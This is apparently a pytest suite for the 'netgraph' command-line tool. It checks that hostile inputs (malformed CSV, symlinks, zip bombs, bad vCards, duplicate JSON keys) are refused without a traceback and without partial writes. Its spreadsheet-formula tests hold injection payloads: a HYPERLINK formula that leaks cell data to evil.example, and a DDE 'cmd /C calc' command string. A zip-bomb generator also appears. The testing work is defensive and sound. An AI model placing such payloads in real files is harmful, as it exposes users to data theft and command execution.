"""A corpus of hostile inputs: each gives its exit code and message, never a traceback,
never a partial write, never a leftover temporary file. Memory and time cases run under a
limit set in the test itself."""

from __future__ import annotations

import io
import os
import resource
import subprocess
import sys
import time
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from paths import EXAMPLE, ROOT

import netgraph
from netgraph.cli._cli import main
from netgraph.importers._merge import import_sources
from netgraph.io._fastread import read_fast
from netgraph.io._folder import LOCK_NAME
from netgraph.io._textio import as_written, read_folder, spreadsheet_safe

CONTRACT = [
    "people.csv",
    "groups.csv",
    "ties.csv",
    "referrals.csv",
    "recommendations.csv",
    "invoices.csv",
    "interactions.csv",
    "satisfaction.csv",
    "memberships.csv",
    "exchanges.csv",
]
PEOPLE = "id,name,member\nme,Anna,yes\nc1,Bram,no\n"
HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"


def run(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    try:
        code = main(list(argv), out, err)
    except SystemExit as exit_:  # argparse's usage errors
        code = int(exit_.code or 0)
    return code, out.getvalue(), err.getvalue()


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        p.name: p.read_bytes()
        for p in sorted(folder.iterdir())
        if p.is_file() and not p.is_symlink() and p.name != LOCK_NAME
    }


def leftovers(folder: Path) -> list[str]:
    return sorted(
        p.name for p in folder.iterdir() if p.name.startswith(".") and p.name != LOCK_NAME
    )


def network(tmp_path: Path) -> Path:
    folder = tmp_path / "n"
    folder.mkdir()
    (folder / "people.csv").write_text(PEOPLE, encoding="utf-8")
    return folder


# -- a contract file that is not a file, or not text ------------------------------------

NOT_A_FILE: dict[str, tuple[Callable[[Path], object], str]] = {
    "dangling symlink": (lambda p: p.symlink_to(p.parent / "gone"), "points nowhere"),
    "looping symlink": (lambda p: p.symlink_to(p), "goes round in a loop"),
    "fifo": (lambda p: os.mkfifo(p), "is a FIFO (named pipe), not a regular file"),
    "/dev/zero": (lambda p: p.symlink_to("/dev/zero"), "is a device, not a regular file"),
    "folder": (lambda p: p.mkdir(), "is a folder, not a regular file"),
}


@pytest.mark.parametrize("name", CONTRACT)
@pytest.mark.parametrize("kind", sorted(NOT_A_FILE))
def test_not_a_regular_file(tmp_path: Path, name: str, kind: str) -> None:
    folder = tmp_path / "n"
    folder.mkdir()
    if name != "people.csv":
        (folder / "people.csv").write_text(PEOPLE, encoding="utf-8")
    make, message = NOT_A_FILE[kind]
    make(folder / name)
    started = time.monotonic()
    code, out, err = run("check", str(folder))
    assert time.monotonic() - started < 30
    assert (code, out) == (1, "")
    assert err.startswith(f"netgraph: invalid data:\n{name}: ") and message in err
    assert "Traceback" not in err


BAD_TEXT: dict[str, tuple[bytes, str]] = {
    "latin-1": (b"id,name\nme,Ren\xe9\n", "is not UTF-8 text"),
    "semicolons": (b"id;name;member\nme;Anna;yes\n", "separated by ';' (a semicolon)"),
    "tabs": (b"id\tname\tmember\nme\tAnna\tyes\n", "separated by tabs"),
    "empty": (b"", "is empty: expected a header row"),
    "unclosed quote": (b'id,name\n"me,Anna\n', "is not valid CSV"),
    "short row": (b"id,name,member\nme,Anna\n", "the row has 2 cells but the header has 3"),
    "1001 columns": (",".join(f"c{i}" for i in range(1001)).encode() + b"\n", "1,001 columns"),
    "duplicate column": (b"id,name,name\nme,A,B\n", "names this column twice"),
}


@pytest.mark.parametrize("name", CONTRACT)
@pytest.mark.parametrize("kind", sorted(BAD_TEXT))
def test_bad_text(tmp_path: Path, name: str, kind: str) -> None:
    folder = tmp_path / "n"
    folder.mkdir()
    if name != "people.csv":
        (folder / "people.csv").write_text(PEOPLE, encoding="utf-8")
    data, message = BAD_TEXT[kind]
    (folder / name).write_bytes(data)
    assert read_fast(folder) is None
    code, out, err = run("check", str(folder))
    assert (code, out) == (1, ""), err
    assert f"{name}" in err and message in err
    assert "Traceback" not in err


@pytest.mark.parametrize("name", CONTRACT)
def test_a_million_columns_are_refused_up_front(tmp_path: Path, name: str) -> None:
    folder = network(tmp_path) if name != "people.csv" else tmp_path / "n"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(",".join(f"c{i}" for i in range(1_000_000)) + "\n", "utf-8")
    code, _, err = limited(["check", str(folder)], memory=6 << 30, seconds=60)
    assert code == 1, err
    assert "1,000,000 columns; netgraph reads at most 1,000" in err


def limited(argv: list[str], *, memory: int, seconds: int) -> tuple[int, str, str]:
    """Run the command line in a process of its own under a memory and a time limit."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    done = subprocess.run(
        [sys.executable, "-m", "netgraph", *argv],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=seconds,
        preexec_fn=limit,
        check=False,
    )
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, done.stdout, done.stderr


# -- command-line values -----------------------------------------------------------------

USAGE = [
    (["score", str(EXAMPLE), "--as-of", "0001-01-01"], "expected a date from 1900-01-01"),
    (["score", str(EXAMPLE), "--as-of", "9999-12-31"], "expected a date from 1900-01-01"),
    (["score", str(EXAMPLE), "--as-of", "2026-02-30"], "expected a date as YYYY-MM-DD"),
    (["score", str(EXAMPLE), "--as-of", "tomorrow"], "expected a date as YYYY-MM-DD"),
    (["generate", "--people", "10", "--seed", "-1", "--into", "x"], "expected a seed from 0"),
    (["generate", "--people", "10", "--seed", str(2**32), "--into", "x"], "expected a seed"),
    (["generate", "--people", "10000000000000", "--into", "x"], "expected at most 100,000,000"),
    (["generate", "--people", "1", "--into", "x"], "expected at least 2"),
    (["generate", "--people", "ten", "--into", "x"], "expected a whole number"),
    (["push", "--neo4j", str(EXAMPLE), "--network", "x"], "is a folder, not a Neo4j URI"),
    (["score", "--neo4j", "nowhere", "--network", "x"], "is not a URI, not a Neo4j URI"),
    (["import", "--into", "x"], "the following arguments are required: SOURCE"),
    (["check"], "the following arguments are required: PATH"),
    (["frobnicate"], "invalid choice"),
]


@pytest.mark.parametrize(("argv", "message"), USAGE)
def test_usage_errors(argv: list[str], message: str, tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, err = run(*argv)
    err += capsys.readouterr().err  # argparse writes its usage errors to sys.stderr
    assert code == 2 and out == ""
    assert message in err and "Traceback" not in err
    assert list(tmp_path.iterdir()) == []  # nothing written


# -- imports ----------------------------------------------------------------------------


def existing(tmp_path: Path) -> Path:
    folder = tmp_path / "n"
    assert run("generate", "--example", "--into", str(folder))[0] == 0
    return folder


def zipped(
    path: Path, entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED
) -> Path:
    with zipfile.ZipFile(path, "w", compression=method) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return path


LINKEDIN = (HEADER + "Anouk,Visser,https://www.linkedin.com/in/anouk,,,,1 Mar 2024\n").encode()
SOURCES: dict[str, tuple[Callable[[Path], Path], str]] = {
    "missing": (lambda d: d / "nothing.vcf", "does not exist"),
    "empty folder": (lambda d: (d / "empty").mkdir() or d / "empty", "holds no LinkedIn"),
    "not a zip": (
        lambda d: (d / "x.zip").write_bytes(b"PK\x03\x04 broken") and d / "x.zip",
        "is not a readable .zip archive",
    ),
    "zip without sources": (
        lambda d: zipped(d / "x.zip", [("Profile.csv", b"a,b\n1,2\n")]),
        "holds no LinkedIn Connections.csv",
    ),
    "zip with a name twice": (
        lambda d: zipped_twice(d / "x.zip"),
        "is in the archive twice (two entries of one name)",
    ),
    "semicolon export": (
        lambda d: write(d / "Connections.csv", LINKEDIN.replace(b",", b";")),
        "separated by ';' (a semicolon)",
    ),
    "bad date": (
        lambda d: write(d / "Connections.csv", LINKEDIN.replace(b"1 Mar 2024", b"03/01/2024")),
        "a date in numbers only is ambiguous",
    ),
    "bad profile": (
        lambda d: write(
            d / "Connections.csv", LINKEDIN.replace(b"linkedin.com/in", b"evil.example")
        ),
        "expected a LinkedIn profile address",
    ),
    "not an export": (
        lambda d: write(d / "notes.csv", b"just,some\ncsv,here\n"),
        "no header of LinkedIn's Connections.csv found",
    ),
    "vcard without end": (
        lambda d: write(d / "a.vcf", b"BEGIN:VCARD\nVERSION:3.0\nFN:Anouk\n"),
        "no END:VCARD",
    ),
    "vcard without name": (
        lambda d: write(d / "a.vcf", b"BEGIN:VCARD\nVERSION:3.0\nEMAIL:a@b.nl\nEND:VCARD\n"),
        "no name",
    ),
    "vcard bad version": (
        lambda d: write(d / "a.vcf", b"BEGIN:VCARD\nVERSION:9.9\nFN:A\nEND:VCARD\n"),
        "expected version 2.1, 3.0 or 4.0",
    ),
    "vcard bad email": (
        lambda d: write(d / "a.vcf", b"BEGIN:VCARD\nVERSION:3.0\nFN:A\nEMAIL:nope\nEND:VCARD\n"),
        "expected an e-mail address",
    ),
}


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def zipped_twice(path: Path) -> Path:
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
        archive.writestr("Connections.csv", LINKEDIN)
        archive.writestr("Connections.csv", LINKEDIN.replace(b"Anouk", b"Bram"))
    return path


@pytest.mark.parametrize("into", ["new", "existing"])
@pytest.mark.parametrize("kind", sorted(SOURCES))
def test_hostile_sources_change_nothing(tmp_path: Path, kind: str, into: str) -> None:
    make, message = SOURCES[kind]
    sources = tmp_path / "sources"
    sources.mkdir()
    source = make(sources)
    folder = existing(tmp_path) if into == "existing" else tmp_path / "n"
    before = snapshot(folder) if into == "existing" else None
    code, out, err = run("import", str(source), "--into", str(folder), "--member", "sanne")
    assert code == 1 and out == "", err
    assert message in err and "Traceback" not in err
    if before is None:
        assert not folder.exists()
    else:
        assert snapshot(folder) == before
        assert leftovers(folder) == []


def test_a_zip_bomb_is_refused_within_limits(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Connections.csv", LINKEDIN)
        with archive.open("messages.vcf", "w", force_zip64=True) as entry:
            block = b"\0" * (1 << 20)
            for _ in range(1024):  # 1 GiB of zeros, about 1 MB compressed
                entry.write(block)
    assert bomb.stat().st_size < 5 << 20
    for dry_run in (["--dry-run"], []):
        code, _, err = limited(
            ["import", str(bomb), "--into", str(tmp_path / "n"), "--member", "me", *dry_run],
            memory=6 << 30,
            seconds=120,
        )
        assert code == 1, err
        assert "bomb.zip/messages.vcf: is 1,073,741,824 bytes uncompressed" in err
    assert not (tmp_path / "n").exists()


def test_a_zip_bomb_among_unrelated_entries_is_only_sniffed(tmp_path: Path) -> None:
    bomb = tmp_path / "export.zip"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Connections.csv", LINKEDIN)
        with archive.open("messages.bin", "w", force_zip64=True) as entry:
            for _ in range(512):
                entry.write(b"\0" * (1 << 20))
    code, _, err = limited(
        ["import", str(bomb), "--into", str(tmp_path / "n"), "--member", "me"],
        memory=6 << 30,
        seconds=120,
    )
    assert code == 0, err
    assert "skipped" in err and "messages.bin" in err


def test_a_vcard_note_folded_over_many_lines_is_read_in_linear_time(tmp_path: Path) -> None:
    lines = ["BEGIN:VCARD", "VERSION:3.0", "FN:Anouk", "NOTE:start"]
    lines += [" " + "x" * 70] * 150_000  # about 10 MB folded
    lines += ["END:VCARD"]
    card = tmp_path / "a.vcf"
    card.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    started = time.monotonic()
    (contact,) = netgraph.importers._merge.read_sources([card])[0]
    assert time.monotonic() - started < 30
    assert len(contact.note) == len("start") + 70 * 150_000


def test_a_quoted_printable_note_over_many_lines_is_linear(tmp_path: Path) -> None:
    lines = ["BEGIN:VCARD", "VERSION:2.1", "FN:Anouk", "NOTE;ENCODING=QUOTED-PRINTABLE:a="]
    lines += ["bcdefgh="] * 100_000 + ["end", "END:VCARD"]
    card = tmp_path / "a.vcf"
    card.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    started = time.monotonic()
    (contact,) = netgraph.importers._merge.read_sources([card])[0]
    assert time.monotonic() - started < 30
    assert contact.note == "a" + "bcdefgh" * 100_000 + "end"


def test_many_people_of_one_name_do_not_make_an_import_quadratic(tmp_path: Path) -> None:
    folder = tmp_path / "n"
    folder.mkdir()
    rows = "".join(f"p{i},Jan Jansen,no\n" for i in range(20_000))
    (folder / "people.csv").write_text("id,name,member\nme,Me,yes\n" + rows, encoding="utf-8")
    card = tmp_path / "a.vcf"
    card.write_text("BEGIN:VCARD\nVERSION:3.0\nFN:Jan Jansen\nEND:VCARD\n", encoding="utf-8")
    started = time.monotonic()
    summary = import_sources([card], folder)
    assert time.monotonic() - started < 30
    assert summary.people_added == 0  # the first Jan Jansen
    assert summary.ties_added == 1


# -- spreadsheet formulas -----------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\r=1+1",
    "\t=1+1",
    "'=1+1",
    "''=1+1",
    "'t Hooft",
    "'s-Hertogenbosch",
    "+31 6 12345678",
    "'",
    "''",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_written_as_a_formula_and_reading_gives_it_back(
    tmp_path: Path, text: str
) -> None:
    assert as_written(spreadsheet_safe(text)) == text
    source = tmp_path / "Connections.csv"
    quoted = '"' + text.replace('"', '""') + '"'
    source.write_text(HEADER + f"Anouk,Visser,,,{quoted},{quoted},1 Mar 2024\n", "utf-8")
    folder = tmp_path / "n"
    member = "=cmd|' /C calc'!A0"
    code, _, err = run(
        "import", str(source), "--into", str(folder), "--member", "me", "--member-name", member
    )
    assert code == 0, err
    written = (folder / "people.csv").read_text(encoding="utf-8")
    for line in written.splitlines()[1:]:
        for cell in line.split(","):
            assert cell.lstrip('"')[:1] not in set("=+-@\t\r"), line
    net = read_folder(folder)
    rows = list(net.rows("people"))
    assert rows[0]["name"] == member
    stripped = " ".join(text.split())  # the importer keeps one line of the company
    assert rows[1]["organisation"] == stripped
    assert read_fast(folder) is None or read_fast(folder) == net
    again = tmp_path / "again"
    netgraph.write_folder(net, again)
    assert read_folder(again) == net


def test_the_example_is_unchanged_by_the_formula_rule() -> None:
    net = netgraph.load_network(EXAMPLE)
    for section in net.tables:
        for row in net.rows(section):
            assert all(v == spreadsheet_safe(v) for v in row.values())


# -- JSON -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "line", "key"),
    [
        ('{"people": [{"id": "me", "name": "A", "name": "B"}]}', 1, "name"),
        ('{"people": [],\n "people": [{"id": "me", "name": "A"}]}', 1, "people"),
        (
            '{"people": [\n {"id": "me",\n  "name": "A"},\n {"id": "x", "id": "y", "name": "B"}]}',
            4,
            "id",
        ),
    ],
)
def test_a_key_given_twice_in_json_is_an_error(
    tmp_path: Path, text: str, line: int, key: str
) -> None:
    path = tmp_path / "net.json"
    path.write_text(text, encoding="utf-8")
    code, out, err = run("check", str(path))
    assert (code, out) == (1, "")
    assert f"net.json, line {line}, column '{key}': the key is given twice in one object" in err
